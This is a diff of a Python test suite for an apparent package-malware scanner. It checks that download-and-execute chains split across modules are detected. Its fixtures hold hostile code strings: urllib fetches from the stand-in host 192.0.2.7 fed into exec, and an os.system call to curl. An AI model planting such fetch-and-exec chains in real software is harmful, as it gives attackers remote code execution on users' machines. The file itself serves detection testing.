@@ -88,28 +88,64 @@ def test_the_sieve_loses_no_finding_of_a_loud_example(rewrite: str) -> None:
     assert not lost
 
 
-def test_modules_that_import_each_other_are_sieved_together() -> None:
-    """A source in one, a sink in another, and a third that joins them: none holds a chain by itself."""
-    files = {
-        "p/__init__.py": b"from .far import get\nfrom .do import go\ngo(get('http://192.0.2.7/a'))\n",
-        "p/far.py": b"import urllib.request\ndef get(u):\n    return urllib.request.urlopen(u).read()\n",
-        "p/do.py": b"def go(x):\n    exec(x)\n",
-        "p/idle.py": b"from .do import go\n",
-    }
-    members = [_member(path, data) for path, data in files.items()]
-    assert "p/__init__.py" in select(members).chosen
-    assert "p/idle.py" not in select(members).chosen
+def _modules(files: Mapping[str, bytes]) -> list[Member]:
+    return list(assign_roles([_member(path, data) for path, data in files.items()], distribution_name(_WHEEL)))
+
+
+_FAR = b"import urllib.request\ndef get(u):\n    return urllib.request.urlopen(u).read()\n"
+_JOINS = b"from .far import get\nfrom .do import go\n"
+_FETCHED = b"go(get('http://192.0.2.7/a'))\n"
+
+
+@pytest.mark.parametrize(
+    "files",
+    [
+        {"p/__init__.py": _JOINS + _FETCHED, "p/far.py": _FAR, "p/do.py": b"def go(x):\n    exec(x)\n"},
+        {"p/__init__.py": b"from .far import get\nexec(get('http://192.0.2.7/a'))\n", "p/far.py": _FAR},
+        {
+            "p/__init__.py": b"from .begin import begin as first\nfirst()\n",
+            "p/begin.py": _JOINS + b"def begin():\n    " + _FETCHED,
+            "p/far.py": _FAR,
+            "p/do.py": b"def go(x):\n    exec(x)\n",
+        },
+        {
+            "p/__init__.py": b"from .begin import Begin\nclass Now(Begin): pass\nNow()\n",
+            "p/begin.py": b"from .far import go\nclass Begin:\n    def __init__(self):\n        go()\n",
+            "p/far.py": _FAR + b"def go():\n    exec(get('http://192.0.2.7/a'))\n",
+        },
+    ],
+    ids=["a third joins two", "one half here", "by another name", "by a subclass"],
+)
+def test_what_modules_only_do_together_is_found(files: Mapping[str, bytes]) -> None:
+    """A source in one, a sink in another, and a third that sets them off: none holds a chain by itself."""
     assert any(rule == "second-stage" for rule, _, _ in _reported(files, sieved=True))
 
 
-def test_an_example_that_nothing_imports_runs_when_somebody_runs_it() -> None:
-    """Its module level is no import of the package; it is one as soon as a module of the package imports it."""
+def test_a_module_that_only_hands_names_on_is_not_parsed() -> None:
+    """Importing what acts is no use of it."""
+    files = {"p/idle.py": b"from .do import go\n", "p/do.py": b"import os\ndef go(x):\n    os.system('curl ' + x)\n"}
+    members = _modules(files)
+    assert "p/idle.py" not in select(members).chosen
+
+
+@pytest.mark.parametrize(
+    ("imports", "aside"),
+    [
+        ({}, {"p/examples/first.py"}),
+        ({"p/__init__.py": b"from .examples import first\n"}, set()),
+        ({"p/__init__.py": b"import p.tools.on\n", "p/tools/on.py": b"from p.examples import first\n"}, set()),
+        ({"p/tools/on.py": b"from p.examples import first\n"}, {"p/examples/first.py"}),
+        ({"p/__init__.py": b"__import__('p.examples.first')\n"}, set()),
+    ],
+    ids=["nobody", "the package", "the package, by way of a tool", "a tool", "by text"],
+)
+def test_an_example_that_nothing_imports_runs_when_somebody_runs_it(
+    imports: Mapping[str, bytes], aside: set[str]
+) -> None:
+    """Its module level is no import of the package; it is one as soon as that leads to it."""
     chain = b"import urllib.request\nexec(urllib.request.urlopen('http://192.0.2.7/a').read())\n"
-    alone = [_member("p/__init__.py", b""), _member("p/examples/first.py", chain)]
-    named = [_member("p/__init__.py", b"from .examples import first\n"), _member("p/examples/first.py", chain)]
-    wheel = distribution_name(_WHEEL)
-    assert select(assign_roles(alone, wheel)).aside == {"p/examples/first.py"}
-    assert select(assign_roles(named, wheel)).aside == frozenset()
+    members = _modules({"p/__init__.py": b"", "p/examples/first.py": chain, **imports})
+    assert select(members).aside == aside
 
 
 @pytest.mark.parametrize(
